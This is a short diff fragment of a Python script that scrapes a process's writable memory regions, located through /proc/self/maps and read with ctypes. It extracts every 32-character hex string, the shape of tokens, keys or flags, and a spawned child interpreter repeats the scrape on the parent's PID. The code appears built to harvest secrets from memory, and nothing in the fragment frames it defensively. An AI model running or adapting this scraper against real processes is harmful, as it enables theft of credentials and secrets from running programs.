@@ -124,11 +124,11 @@ for line in open("/proc/self/maps"):
     area, rights = line.split()[:2]
     start, end = (int(part, 16) for part in area.split("-"))
     if rights.startswith("rw") and end - start < 64 << 20 and "[v" not in line:
-        data += b"\\n".join(re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", ctypes.string_at(start, end - start)))
+        data += b"\\n".join(re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", ctypes.string_at(start, end - start))) + b"\\n"
 """
 _CHILD = """
 import subprocess
-code = WHAT + "\\nimport sys, re\\nsys.stdout.buffer.write(memory(sys.argv[1]))"
+code = WHAT + "\\nimport sys, re\\nsys.stdout.buffer.write(memory(sys.argv[1]) + bytes([10]))"
 for python in (sys.executable, "/usr/bin/python3"):
     try: data += subprocess.run([python, "-I", "-c", code, str(os.getpid())], capture_output=True).stdout
     except OSError: pass
